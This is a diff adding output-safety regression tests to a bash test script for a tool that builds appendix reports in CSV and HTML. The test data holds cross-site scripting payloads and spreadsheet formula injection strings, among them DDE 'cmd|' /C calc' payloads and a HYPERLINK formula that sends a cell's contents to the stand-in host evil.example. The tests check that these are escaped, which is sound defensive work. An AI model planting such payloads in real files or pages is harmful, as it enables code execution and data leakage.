@@ -1,6 +1,8 @@
 #!/usr/bin/env bash
 # returns appendix: the approved Markdown file; every matching comment
-# exactly once, in district, collaborative, position order; html and docx.
+# exactly once, in district, collaborative, position order; html and docx;
+# on hostile data (tests/data/hostile) a CSV a spreadsheet reads as text
+# and an html page with nothing injected.
 # usage: appendix_test.sh PATH/TO/returns SOURCE_DIR
 source "$(dirname "$0")/lib.sh" "$@"
 
@@ -37,6 +39,36 @@ if command -v pandoc >/dev/null; then
   grep -q "Appendix: theme elc" "$work/elc.txt" && grep -q "Weald Consortium" "$work/elc.txt" && grep -q "first cohort is complete" "$work/elc.txt"
   check "docx appendix converts back to the text it should hold" $?
 fi
+# Output safety: hostile labels, names and text (tests/data/hostile).
+hostile="$work/hostile"
+build_hostile_db "$hostile"
+dover="Dover <script>document.body.dataset.pwned='district'</script>"
+evil="\"><img src=x onerror=\"document.body.dataset.pwned='collaborative'\"> & Co"
+tab=$'\t'
+heading="Priority 1 ' onmouseover='document.body.dataset.pwned=1' \" onfocus=\"document.body.dataset.pwned=2\""
+"$returns" appendix --db "$hostile" --format csv >"$work/hostile.csv"
+check_output csv "$work/hostile.csv" --expect "$dover" --expect "$evil" --expect "$heading" \
+  --expect "'=HYPERLINK(\"http://evil.example/?\"&A1,\"moderation report\")" \
+  --expect "'+44 moderation <script>document.body.dataset.pwned='text'</script> and a learning walk" \
+  --expect "'-2+3+cmd|' /C calc'!A0 moderation" --expect "'@SUM(1+1)*cmd|' /C calc'!A0 learning walk" \
+  --expect "'${tab}Tab first: moderation planned <img src=x onerror=\"document.body.dataset.pwned='img'\">" \
+  --expect "'-Thanet" --expect "'@Group" --expect "'+Plus School" --expect "'=Swale" \
+  --expect "St Mary's & St John's <b>CE</b>; =HYPERLINK(\"http://evil.example/\",\"click\")"
+check "regression: appendix --format csv: cells starting with = + - @ or a tab are text to a spreadsheet; text quoted" $?
+for theme in "" learning_walks; do
+  "$returns" appendix --db "$hostile" --format html ${theme:+--theme "$theme"} >"$work/hostile$theme.html"
+  headed=(--expect "$heading:")  # the heading's comment has no learning walk
+  [ -z "$theme" ] || headed=()
+  check_output html "$work/hostile$theme.html" --expect "$dover" --expect "$evil" "${headed[@]}" \
+    --expect "+44 moderation <script>document.body.dataset.pwned='text'</script> and a learning walk" \
+    --expect "St Mary's & St John's <b>CE</b>; =HYPERLINK(\"http://evil.example/\",\"click\")" \
+    --expect "Plain & \"Quoted\" 'Group'" --expect "<i>Lead</i>"
+  check "appendix --format html ${theme:+--theme $theme}: names, headings and comments escaped; nothing injected" $?
+done
+"$returns" appendix --db "$hostile" --format html "walk OR '<script>x</script>'" >"$work/hostile-query.html"
+check_output html "$work/hostile-query.html" --expect "Appendix: query \"walk OR '<script>x</script>'\""
+check "appendix html: the query in the title and heading escaped" $?
+
 expect_error "appendix: docx needs --out" 2 "docx needs --out" "$returns" appendix --db "$db2" --format docx
 
 finish appendix
